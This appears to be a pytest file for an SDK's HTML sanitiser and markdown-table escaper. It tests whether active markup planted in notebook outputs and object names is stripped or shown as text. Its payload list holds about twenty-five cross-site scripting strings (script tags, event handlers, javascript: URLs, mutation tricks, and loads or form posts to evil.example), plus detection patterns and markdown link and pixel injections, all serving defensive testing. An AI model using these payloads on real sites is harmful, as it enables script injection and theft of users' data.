"""Markup that strangers plant, in outputs of notebooks and in names of objects: it is shown as text, or not at all."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from lakehouse_sdk.acceptance.sanitising import CONTENT_POLICY, remove_active
from lakehouse_sdk.flows.artifacts import _cell

PLANTED = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</script>",
    "<img src=x onerror=steal()>",
    "<img src=x OnError='steal()'>",
    "<svg onload=steal()><circle/></svg>",
    "<svg><script>steal()</script></svg>",
    "<svg><animate attributeName=href values=javascript:steal() /></svg>",
    "<a href='javascript:steal()'>x</a>",
    "<a href=' \tjava\nscript:steal()'>x</a>",
    "<a href='data:text/html,<script>steal()</script>'>x</a>",
    "<a xlink:href='javascript:steal()'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example'><input name=secret><button formaction='javascript:steal()'>go</button></form>",
    "<div style='width: expression(steal())'>x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
    "<template><script>steal()</script></template>",
    "<details open ontoggle=steal()>x</details>",
    "<body onload=steal()>",
    "<a href='vbscript:steal()'>x</a>",
]
_SIGNS = (
    "<script",
    "<iframe",
    "<object",
    "<embed",
    "<meta",
    "<base",
    "<link",
    "<form",
    "javascript:",
    "vbscript:",
    "text/html",
)
_HANDLERS = ("onerror", "onload", "ontoggle", "srcdoc", "formaction")


@pytest.mark.parametrize("markup", PLANTED)
def test_nothing_that_runs_or_loads_is_left(markup: str) -> None:
    left = remove_active(f"<p>before</p>{markup}<p>after</p>").lower()
    assert not [sign for sign in _SIGNS if sign in left]
    assert not [name for name in _HANDLERS if f" {name}=" in left]
    assert "before" in left


def test_what_a_report_is_made_of_stays() -> None:
    good = (
        '<div class="lh" style="color: red"><svg viewbox="0 0 1 1"><path d="M0 0"></path></svg>'
        '<a href="https://example.com/a?b=c#d">x</a><a href="#panel-1">y</a>'
        '<img src="data:image/png;base64,AAAA"/><table><tr><td>1</td></tr></table></div>'
    )
    assert remove_active(good) == good
    assert "script-src" not in CONTENT_POLICY
    assert CONTENT_POLICY.startswith("default-src 'none'")


@pytest.mark.parametrize(
    "name",
    [
        "![x](https://evil.example/pixel.png)", "[click](https://evil.example)", "<img src=https://evil.example>",
        "https://evil.example/auto", "www.evil.example", "someone@evil.example", "a|b", "a\nb", "`code`", "**bold**", "# head",
        "[a]: https://evil.example", "a\\|b", "&lt;b&gt;", "\x1b[31mred",
    ],
)  # fmt: skip
def test_a_name_in_a_markdown_table_is_text(name: str) -> None:
    html = MarkdownIt("commonmark").enable("table").render(f"| archive | why |\n| --- | --- |\n| {_cell(name)} | so |\n")
    assert (html.count("<tr>"), html.count("<td>")) == (2, 2)
    assert not [tag for tag in ("<a", "<img", "<strong", "<code", "<h1", "<b>") if tag in html]
